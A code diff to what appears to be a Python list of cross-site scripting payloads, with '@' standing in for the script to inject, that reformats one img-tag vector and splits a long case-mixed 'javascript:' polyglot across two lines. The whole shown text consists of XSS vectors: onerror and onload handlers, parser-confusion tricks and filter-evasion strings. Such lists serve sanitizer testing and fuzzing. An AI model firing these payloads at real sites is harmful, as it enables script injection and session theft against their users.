@@ -58,7 +58,7 @@ _HANDLERS = r"""
 <img src=x onerror=`@`>
 <img src=x:x onerror=@>
 <img src onerror=@>
-<img """><script>@</script>">
+<img ""><script>@</script>">
 <img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=@>
 <img srcset="x" onerror=@>
 <image src=x onerror=@>
@@ -287,7 +287,8 @@ _TRICKS = (
     "<xmp><img title='</xmp><img src=x onerror=@>'></xmp>",
     "<listing>&lt;img src=x onerror=@&gt;</listing>",
     "<select><template><style><!--</style><img src=x onerror=@>--></template></select>",
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A%0d%0a"
+    "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e",
     "\"'`><img src=x onerror=@>--></script></title></style></textarea></noscript></template>",
     "'\"()&%<zzz><ScRiPt >@</ScRiPt>",
     "<" * 200 + "img src=x onerror=@>",
